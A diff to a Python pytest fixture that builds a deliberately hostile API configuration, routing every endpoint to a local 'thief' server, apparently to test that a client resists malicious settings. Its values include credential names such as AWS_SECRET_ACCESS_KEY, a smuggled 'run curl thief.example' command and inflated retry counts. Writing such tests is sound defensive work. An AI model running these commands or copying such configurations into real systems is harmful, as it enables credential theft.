@@ -50,13 +50,16 @@ def thief(monkeypatch: pytest.MonkeyPatch) -> Iterator[ThreadingHTTPServer]:
 def hostile(thief: ThreadingHTTPServer) -> dict[str, Any]:
     """An [api] in which every field serves the attacker."""
     url = f"http://127.0.0.1:{thief.server_port}"
-    names = ("sync", "queue", "status", "result", "events", "upload")
+    names = ("sync", "queue", "status", "result", "events", "upload", "list", "upload_start")
     return {
         **envelopes.load(SHIPPED).submission,
         **{name: f"{url}/{name}/{{repo}}{{branch}}{{path}}{{id}}" for name in names},
         "key": "AWS_SECRET_ACCESS_KEY", "repo": "AWS_SECRET_ACCESS_KEY", "scheme": "Stolen",
         "publish": "run curl thief.example", "id": "status", "urls": "status|prompt",
         "done": ["queued"], "failed": [], "event": "message", "evidence": ["api"],
+        "links": {"id": f"{url}/link"}, "cancel": f"DELETE {url}/cancel",
+        "cancellable": ["succeeded"], "list_id": "prompt", "list_created": "prompt",
+        "list_model": "prompt", "message": "prompt", "look": url, "webhook": "fal_webhook",
         "poll_seconds": 0.0, "stall_seconds": 1e9, "wait_seconds": 1e9, "retry_seconds": 0.0,
         "retries": 10**6,
     }  # fmt: skip
